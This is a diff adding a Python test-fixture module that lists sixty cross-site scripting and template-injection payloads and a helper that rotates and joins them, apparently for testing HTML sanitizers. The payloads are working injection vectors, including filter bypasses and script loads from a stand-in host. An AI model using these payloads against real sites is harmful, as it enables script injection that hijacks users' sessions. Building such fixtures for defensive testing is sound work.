@@ -1,0 +1,73 @@
+"""Sixty ways to make text into something that runs, each harmless where it is shown as text. Made for this; what would run
+opens a dialog, marks the window, or calls a place that does not exist."""
+
+_RUNS = "alert(1);window.ran=1"
+_AWAY = "//ond.example/x"
+PAYLOADS: tuple[str, ...] = (
+    f"<script>{_RUNS}</script>",
+    f"<ScRiPt >{_RUNS}</sCrIpT >",
+    f"<script src={_AWAY}></script>",
+    f"<script\x0ctype=module>{_RUNS}</script>",
+    f"</script><script>{_RUNS}</script>",
+    f"</title><script>{_RUNS}</script>",
+    f"</textarea><script>{_RUNS}</script>",
+    f"</style><script>{_RUNS}</script>",
+    f"--><script>{_RUNS}</script>",
+    f"]]><script>{_RUNS}</script>",
+    f"<scr<script>ipt>{_RUNS}</script>",
+    f"<<script>{_RUNS}//<</script>",
+    f'<img src=x onerror="{_RUNS}">',
+    f"<img/src=x/onerror={_RUNS}>",
+    f"<img src={_AWAY}>",
+    f'"><img src=x onerror={_RUNS}>',
+    f"'><img src=x onerror={_RUNS}>",
+    f"`><img src=x onerror={_RUNS}>",
+    f"<svg onload={_RUNS}>",
+    f"<svg><script>{_RUNS}</script></svg>",
+    f"<svg><animate onbegin={_RUNS} attributeName=x dur=1s>",
+    f"<svg><a href=javascript:{_RUNS}><text y=9>x</text></a></svg>",
+    f"<svg><use href=data:image/svg+xml,<svg/onload={_RUNS}>>",
+    f"<math><mi//xlink:href='data:x,<script>{_RUNS}</script>'>",
+    f"<body onload={_RUNS}>",
+    f"<input autofocus onfocus={_RUNS}>",
+    f'" autofocus onfocus="{_RUNS}" x="',
+    f"' autofocus onfocus='{_RUNS}' x='",
+    f'" onmouseover="{_RUNS}" style="position:fixed;inset:0',
+    f"<details open ontoggle={_RUNS}>",
+    f"<video src=x onerror={_RUNS}>",
+    f"<audio src=x onerror={_RUNS}>",
+    f"<source onerror={_RUNS}>",
+    f"<marquee onstart={_RUNS}>x</marquee>",
+    f"<select autofocus onfocus={_RUNS}>",
+    f"<textarea autofocus onfocus={_RUNS}>",
+    f"<iframe src=javascript:{_RUNS}>",
+    f'<iframe srcdoc="<script>{_RUNS}</script>">',
+    f"<iframe src={_AWAY}>",
+    f"<object data=javascript:{_RUNS}>",
+    f"<object data={_AWAY}>",
+    f"<embed src={_AWAY}>",
+    f"<link rel=stylesheet href={_AWAY}>",
+    f"<link rel=preload as=script href={_AWAY}>",
+    f"<style>@import '{_AWAY}';</style>",
+    f"<p style=\"background:url('{_AWAY}')\">x</p>",
+    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
+    f"<base href={_AWAY}>",
+    f"<form action={_AWAY}><button>x</button></form>",
+    f"<a href=javascript:{_RUNS}>x</a>",
+    f"<a href=' \x01javascript:{_RUNS}'>x</a>",
+    f"javascript:{_RUNS}",
+    f"data:text/html,<script>{_RUNS}</script>",
+    "{{ 7 * 7 }}{% include 'x' %}{{ config }}",
+    "${7*7}#{7*7}<%= 7*7 %>",
+    f"\u2028<script>{_RUNS}</script>",
+    f"\uff1cscript\uff1e{_RUNS}\uff1c/script\uff1e",
+    f"&lt;script&gt;{_RUNS}&lt;/script&gt;",
+    f"&#60;img src=x onerror={_RUNS}&#62;",
+    f"<template><script>{_RUNS}</script></template><noscript><p title='</noscript><img src=x onerror={_RUNS}>'>",
+)
+
+
+def all_beginning_with(number: int) -> str:
+    """All of them in one text, each round and each field beginning with another, so that none hides behind the others."""
+    first = number % len(PAYLOADS)
+    return " ".join((*PAYLOADS[first:], *PAYLOADS[:first])).replace("\x0c", " ").replace("\x01", "")
